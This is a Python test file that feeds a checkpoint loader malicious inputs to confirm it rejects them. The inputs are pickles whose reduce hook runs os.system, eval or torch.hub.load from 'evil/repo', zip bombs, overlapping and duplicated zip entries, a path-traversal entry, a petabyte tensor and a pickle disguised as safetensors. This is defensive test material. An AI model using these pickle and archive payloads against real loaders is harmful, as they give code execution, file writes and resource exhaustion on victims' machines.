"""Attacks by pickles and archives, added to those of `malicious`: import ``CASES`` from here to have all."""

from __future__ import annotations

import copy
import functools
import io
import os
import pickle
import warnings
import zipfile
from pathlib import Path
from typing import Any

import torch

from adept_hub.checkpoint.folder import WEIGHTS, read_config, read_tensors
from adept_hub.checkpoint.tensor_files import load_tensors_only
from tests.hub import malicious, malicious_headers  # noqa: F401  # they add to CASES
from tests.hub.malicious_cases import CASES, attack


class _Call:
    def __init__(self, function: Any, *arguments: Any) -> None:
        self.call = function, arguments

    def __reduce__(self) -> Any:
        return self.call


def pickled(value: object, old: bool, work: Path, folder: Path) -> object:
    path = work / "model.pth"
    torch.save({"model": {"a": torch.zeros(2)}, "evil": value}, path, _use_new_zipfile_serialization=not old)
    return load_tensors_only(path)


for _name, _value in (
    ("system", _Call(os.system, "touch owned")),
    ("eval", _Call(eval, "open('owned', 'w')")),
    ("torch_hub", _Call(torch.hub.load, "evil/repo", "model")),
    ("a_module", torch.nn.ReLU()),
):
    for _old in (False, True):
        CASES[f"pickle_that_calls_{_name}{'_old_format' * _old}"] = functools.partial(pickled, _value, _old)


@attack
def plain_pickle_that_calls_system(work: Path, folder: Path) -> object:
    (work / "model.pkl").write_bytes(pickle.dumps(_Call(os.system, "touch owned")))
    return load_tensors_only(work / "model.pkl")


@attack
def pickle_given_for_a_checkpoint_folder(work: Path, folder: Path) -> object:
    (work / "model.pth").write_bytes(pickle.dumps(_Call(os.system, "touch owned")))
    return read_config(work / "model.pth")


@attack
def zip_bomb(work: Path, folder: Path) -> object:
    with zipfile.ZipFile(work / "model.pth", "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("model/data.pkl", pickle.dumps({}, protocol=2))
        archive.writestr("model/data/0", bytes(64 << 20))
    return load_tensors_only(work / "model.pth")


@attack
def zip_with_two_pickles_of_one_name(work: Path, folder: Path) -> object:
    """Which of the two is read depends on who reads."""
    torch.save({"a": torch.zeros(2)}, work / "model.pth")
    with warnings.catch_warnings(), zipfile.ZipFile(work / "model.pth", "a") as archive:
        warnings.simplefilter("ignore")
        archive.writestr("model/data.pkl", archive.read("model/data.pkl"))
    return load_tensors_only(work / "model.pth")


@attack
def zip_of_overlapping_entries(work: Path, folder: Path) -> object:
    """A thousand names for the same bytes: what they claim together is a thousand times the file."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        archive.writestr("model/data.pkl", pickle.dumps({}, protocol=2))
        archive.writestr("model/data/0", bytes(1 << 20))
        first = archive.getinfo("model/data/0")
        for i in range(1, 1000):
            again = copy.copy(first)
            again.filename = f"model/data/{i}"
            archive.filelist.append(again)
    (work / "model.pth").write_bytes(content.getvalue())
    return load_tensors_only(work / "model.pth")


@attack
def zip_with_a_traversing_entry(work: Path, folder: Path) -> object:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        archive.writestr("../../../owned", "owned")
        archive.writestr("model/data.pkl", pickle.dumps({}, protocol=2))
    (work / "model.pth").write_bytes(content.getvalue())
    return load_tensors_only(work / "model.pth")


@attack
def tensor_of_a_petabyte_over_one_number(work: Path, folder: Path) -> object:
    torch.save({"a": torch.zeros(1).expand(1 << 48)}, work / "model.pth")
    return load_tensors_only(work / "model.pth")


@attack
def pickle_under_the_name_of_safetensors(work: Path, folder: Path) -> object:
    (folder / WEIGHTS).write_bytes(pickle.dumps(_Call(os.system, "touch owned")))
    return read_tensors(folder, read_config(folder), verified=False)
